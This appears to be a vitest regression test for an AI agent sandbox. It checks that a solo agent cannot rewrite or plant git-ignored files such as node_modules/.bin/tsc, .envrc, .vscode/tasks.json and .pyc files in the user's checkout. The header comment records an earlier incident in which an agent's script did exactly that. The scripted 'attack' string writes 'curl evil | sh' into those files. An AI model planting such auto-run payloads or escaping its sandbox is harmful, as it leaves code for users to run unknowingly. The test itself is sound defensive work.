/**
 * REGRESSION (issue 11, note9 "a solo agent can leave … files in the main checkout", helper H4): the
 * agent of a solo wave works IN the main checkout, which its sandbox makes writable. Untracked unowned
 * files fail the wave (JAIL_UNOWNED_CHANGE), but git-IGNORED ones were invisible to every check: a
 * script the agent wrote rewrote `node_modules/.bin/tsc` and `.envrc`, planted `.vscode/tasks.json`,
 * `dist/`, a `.pyc` — and the wave exited 0, leaving them for the user to run outside any sandbox.
 * Now the ignored paths that exist are read-only to such an agent (an existing build-output directory
 * such as `dist/` is an empty throwaway tmpfs: it can build, nothing reaches the checkout), and ignored paths that appear
 * while it runs are moved out of the checkout (to `.git/polywave/quarantine/`) when it stops, each
 * recorded in its journal's denials.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { sandboxStatus } from '../src/sandbox/index.js';
import { runCli } from './support/cli.js';
import { soloEscapeRepo } from './support/solo-escape.js';

const available = (await sandboxStatus()).available;

/** Each attempt prints `<name>=written` or `<name>=denied`. */
const attack = [
  'try() { if sh -c "$2" 2>/dev/null; then echo "$1=written"; else echo "$1=denied"; fi; }',
  'try tsc "echo \'curl evil | sh\' >> node_modules/.bin/tsc"',
  'try bin "echo pwn > node_modules/.bin/x && chmod +x node_modules/.bin/x"',
  'try envrc "echo \'curl evil | sh\' > .envrc"',
  'try envrc-rm "rm -f .envrc"',
  'try vscode "mkdir -p .vscode && echo \'{\\"tasks\\":[]}\' > .vscode/tasks.json"',
  'try build "mkdir -p build && echo pwn > build/index.js"',
  // An existing build-output directory: an empty throwaway tmpfs in the sandbox (the agent can build).
  'try dist-own "echo pwn > dist/app.js && grep -q pwn dist/app.js && test ! -e dist/user.js"',
  'try pyc "echo pwn > src/evil.pyc"',
  '',
].join('\n');

describe("a solo wave's agent and the main checkout's ignored files", () => {
  it.skipIf(!available)('existing ones are read-only, new ones are moved out when it stops and recorded', async () => {
    const { repo, home } = await soloEscapeRepo();
    writeFileSync(repo.path('.git/info/exclude'), 'node_modules/\n.envrc\n.vscode/\ndist/\nbuild/\n*.pyc\n');
    mkdirSync(repo.path('dist'));
    writeFileSync(repo.path('dist/user.js'), 'user build\n');
    mkdirSync(repo.path('node_modules/.bin'), { recursive: true });
    writeFileSync(repo.path('node_modules/.bin/tsc'), '#!/bin/sh\necho real tsc\n');
    writeFileSync(repo.path('.envrc'), 'export USER_ENV=1\n');
    const steps = [
      { write: { path: 'src/a.ts', content: attack } },
      { bash: 'bash src/a.ts' },
      { write: { path: 'src/a.ts', content: "export const a = 'a';\n" } },
      { commit: 'feat(A): a' },
      { report: { status: 'complete', verification: 'PASS', notes: 'done' } },
    ];
    const scriptPath = path.join(realpathSync(mkdtempSync(path.join(os.tmpdir(), 'pw-x6-'))), 'script.json');
    writeFileSync(scriptPath, JSON.stringify({ version: 1, agents: { A: { steps } } }));
    const env: Record<string, string> = { ...(repo.env as Record<string, string>), HOME: home };
    const cli = await runCli(['run-wave', repo.path('docs/IMPL/IMPL-solo.yaml'), '--wave', '1', '--model', `script:${scriptPath}`, '--skip-critic', '--timeout', '120'], { cwd: repo.dir, env, timeoutMs: 240_000 });
    expect(cli.stdout, cli.stderr).toContain('"slug": "solo"');

    // The existing ones: untouched (read-only in the sandbox).
    expect(readFileSync(repo.path('node_modules/.bin/tsc'), 'utf8')).toBe('#!/bin/sh\necho real tsc\n');
    expect(existsSync(repo.path('node_modules/.bin/x'))).toBe(false);
    expect(readFileSync(repo.path('.envrc'), 'utf8')).toBe('export USER_ENV=1\n');
    // The new ones: gone from the checkout, kept in the quarantine.
    for (const planted of ['.vscode', 'build', 'src/evil.pyc', 'dist/app.js']) expect(existsSync(repo.path(planted)), planted).toBe(false);
    expect(readFileSync(repo.path('dist/user.js'), 'utf8')).toBe('user build\n');
    const quarantine = repo.path('.git/polywave/quarantine');
    const [batch] = readdirSync(quarantine);
    expect(batch).toMatch(/^A-/);
    expect(readFileSync(path.join(quarantine, batch!, 'build/index.js.quarantined'), 'utf8')).toBe('pwn\n');
    expect(existsSync(path.join(quarantine, batch!, '.vscode/tasks.json.quarantined'))).toBe(true);
    expect(existsSync(path.join(quarantine, batch!, 'src/evil.pyc.quarantined'))).toBe(true);
    // Recorded in the agent's journal.
    const denials = findFile(repo.path('.polywave-state'), 'denials.jsonl');
    expect(denials, 'no denials.jsonl').toBeDefined();
    const records = readFileSync(denials!, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { code: string; target?: string });
    expect(records.filter((record) => record.code === 'SANDBOX_IGNORED_QUARANTINED').map((record) => record.target).sort()).toEqual(['.vscode', 'build', 'src/evil.pyc']);
    // What the agent saw (its bash call's output in the journal): denied, except its throwaway dist/.
    const journal = allText(repo.path('.polywave-state'));
    for (const line of ['tsc=denied', 'bin=denied', 'envrc=denied', 'envrc-rm=denied', 'dist-own=written']) expect(journal).toContain(line);
    // The wave itself goes on: the agent's own work merged.
    expect(cli.code, cli.stderr).toBe(0);
  }, 300_000);
});

function allText(directory: string): string {
  return readdirSync(directory, { withFileTypes: true })
    .map((entry) => (entry.isDirectory() ? allText(path.join(directory, entry.name)) : entry.isFile() ? readFileSync(path.join(directory, entry.name), 'utf8') : ''))
    .join('\n');
}

function findFile(directory: string, name: string): string | undefined {
  for (const entry of readdirSync(directory, { withFileTypes: true })) {
    const full = path.join(directory, entry.name);
    if (entry.isFile() && entry.name === name) return full;
    if (entry.isDirectory()) {
      const found = findFile(full, name);
      if (found) return found;
    }
  }
  return undefined;
}
